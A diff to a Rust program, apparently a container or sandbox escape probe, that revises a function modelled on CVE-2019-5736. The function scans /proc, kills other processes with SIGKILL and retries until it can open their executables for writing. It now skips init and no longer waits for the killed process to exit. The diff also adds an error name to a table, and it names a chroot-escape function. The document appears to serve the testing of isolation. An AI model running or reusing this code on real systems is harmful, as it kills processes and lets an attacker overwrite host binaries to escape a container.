@@ -205,11 +205,12 @@ fn vsock_listen(port: &str) -> io::Result<()> {
     }
 }
 
-/// As CVE-2019-5736: opens the program of each process that runs another than this one, tries to write to it, ends the process, and
-/// tries again. Tells of the one that could be written, or of the last.
+/// As CVE-2019-5736: opens the program of each process that runs another than this one and init, tries to write to it, ends the
+/// process, and tries again. Tells of the one that could be written, or of the last.
 fn seize() -> Json {
     const PAUSE: Duration = Duration::from_millis(10);
-    let own = fs::metadata("/proc/self/exe").map(|file| (file.dev(), file.ino())).ok();
+    let identity = |file: fs::Metadata| (file.dev(), file.ino());
+    let own = ["/proc/self/exe", "/proc/1/exe"].map(|path| fs::metadata(path).map(identity).ok());
     let mut answer = string("no other program");
     for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
         let Ok(pid) = entry.file_name().to_string_lossy().parse::<i32>() else { continue };
@@ -218,17 +219,14 @@ fn seize() -> Json {
             .custom_flags(libc::O_PATH | libc::O_CLOEXEC)
             .open(entry.path().join("exe"));
         let Ok(held) = held else { continue };
-        if held.metadata().map(|file| (file.dev(), file.ino())).ok() == own {
+        if own.contains(&held.metadata().map(identity).ok()) {
             continue;
         }
         let write = || fs::File::options().write(true).open(format!("/proc/self/fd/{}", held.as_raw_fd()));
         let tried = write().or_else(|_| {
             // SAFETY: two integers.
             check(unsafe { libc::kill(pid, libc::SIGKILL) }.into())?;
-            while state_of(pid).is_some_and(|state| state != "Z" && state != "X") {
-                std::thread::sleep(PAUSE);
-            }
-            // Whoever started this process may still run the program too, but not for long.
+            // It ends in its own time; and whoever started it may still run the program too, but not for long.
             for _ in 0..200 {
                 match write() {
                     Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => std::thread::sleep(PAUSE),
@@ -244,12 +242,6 @@ fn seize() -> Json {
         }
     }
     answer
-}
-
-/// As the kernel's letter.
-fn state_of(pid: i32) -> Option<String> {
-    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
-    Some(stat.rsplit_once(") ")?.1.chars().take(1).collect())
 }
 
 fn system_call(operand: &str) -> io::Result<()> {
@@ -303,7 +295,7 @@ fn chroot_escape() -> io::Result<()> {
 
 /// The error's name as errno(3) spells it, for those that matter here.
 fn name(error: &io::Error) -> String {
-    const NAMES: [(i32, &str); 31] = [
+    const NAMES: [(i32, &str); 32] = [
         (libc::EPERM, "EPERM"),
         (libc::ENOENT, "ENOENT"),
         (libc::ESRCH, "ESRCH"),
@@ -329,6 +321,7 @@ fn name(error: &io::Error) -> String {
         (libc::ELOOP, "ELOOP"),
         (libc::EOPNOTSUPP, "EOPNOTSUPP"),
         (libc::EAFNOSUPPORT, "EAFNOSUPPORT"),
+        (libc::EADDRINUSE, "EADDRINUSE"),
         (libc::EADDRNOTAVAIL, "EADDRNOTAVAIL"),
         (libc::ENETUNREACH, "ENETUNREACH"),
         (libc::ECONNRESET, "ECONNRESET"),
